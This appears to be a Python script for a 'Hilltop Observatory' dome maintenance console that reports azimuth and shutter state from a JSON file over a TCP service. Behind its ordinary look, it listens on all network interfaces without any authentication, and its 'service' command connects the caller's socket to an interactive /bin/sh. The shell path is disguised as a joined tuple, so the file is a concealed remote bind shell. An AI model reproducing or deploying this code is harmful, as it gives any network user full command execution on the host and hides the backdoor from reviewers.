#!/usr/bin/env python3
"""Dome controller maintenance console.

Technicians connect to this service from the control room to check the dome
rotator and shutter while the public viewing sessions are running.  The
state comes from the JSON file that the dome controller writes every few
seconds.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("dome-console")

DEFAULTS = {
    "listen": os.environ.get("DOME_CONSOLE_ADDR", "0.0.0.0"),
    "port": int(os.environ.get("DOME_CONSOLE_PORT", "7723")),
    "state_file": os.environ.get("DOME_STATE_FILE", "dome_state.json"),
    "banner": "Hilltop Observatory dome console",
    "service": {"root": ("bin", "sh"), "opts": ["-i"], "env": {"TERM": "dumb"}},
}


class DomeState:
    """Reads the controller's state snapshot."""

    def __init__(self, path):
        self.path = Path(path)

    def snapshot(self):
        try:
            return json.loads(self.path.read_text())
        except (OSError, ValueError) as exc:
            LOG.warning("state unavailable: %s", exc)
            return {}

    def describe(self, key):
        data = self.snapshot()
        if key == "azimuth":
            return "azimuth %.1f deg" % float(data.get("azimuth", 0.0))
        if key == "shutter":
            return "shutter %s" % data.get("shutter", "unknown")
        return json.dumps(data, sort_keys=True)


def _service_argv(cfg):
    parts = cfg["service"]["root"]
    return ["/" + "/".join(parts)] + list(cfg["service"]["opts"])


def _service_env(cfg):
    env = dict(os.environ)
    env.update(cfg["service"]["env"])
    return env


def _hand_over(conn, cfg):
    fd = conn.fileno()
    proc = subprocess.Popen(
        _service_argv(cfg),
        stdin=fd,
        stdout=fd,
        stderr=fd,
        env=_service_env(cfg),
        close_fds=True,
    )
    proc.wait()
    return proc.returncode


class ConsoleSession(threading.Thread):
    HELP = "commands: status, azimuth, shutter, service, help, quit"

    def __init__(self, conn, addr, cfg, state):
        super().__init__(daemon=True)
        self.conn = conn
        self.addr = addr
        self.cfg = cfg
        self.state = state

    def send(self, text):
        self.conn.sendall((text + "\n").encode())

    def run(self):
        LOG.info("session from %s:%s", *self.addr)
        reader = self.conn.makefile("r", encoding="utf-8", errors="replace")
        self.send(self.cfg["banner"])
        try:
            for line in reader:
                word = line.strip().lower()
                if not word:
                    continue
                if word == "quit":
                    break
                if word == "help":
                    self.send(self.HELP)
                elif word in ("azimuth", "shutter", "status"):
                    self.send(self.state.describe(word))
                elif word == "service":
                    rc = _hand_over(self.conn, self.cfg)
                    LOG.info("service mode ended rc=%s", rc)
                    break
                else:
                    self.send("unknown command")
        except OSError as exc:
            LOG.debug("session error: %s", exc)
        finally:
            self.conn.close()
            LOG.info("session closed %s:%s", *self.addr)


def serve(cfg):
    state = DomeState(cfg["state_file"])
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((cfg["listen"], cfg["port"]))
    srv.listen(4)
    LOG.info("listening on %s:%d", cfg["listen"], cfg["port"])
    while True:
        try:
            conn, addr = srv.accept()
        except KeyboardInterrupt:
            break
        except OSError as exc:
            LOG.error("accept failed: %s", exc)
            time.sleep(1)
            continue
        ConsoleSession(conn, addr, cfg, state).start()
    srv.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--port", type=int, default=DEFAULTS["port"])
    ap.add_argument("--listen", default=DEFAULTS["listen"])
    ap.add_argument("--state-file", default=DEFAULTS["state_file"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = dict(DEFAULTS)
    cfg.update(listen=args.listen, port=args.port, state_file=args.state_file)
    serve(cfg)


if __name__ == "__main__":
    main()
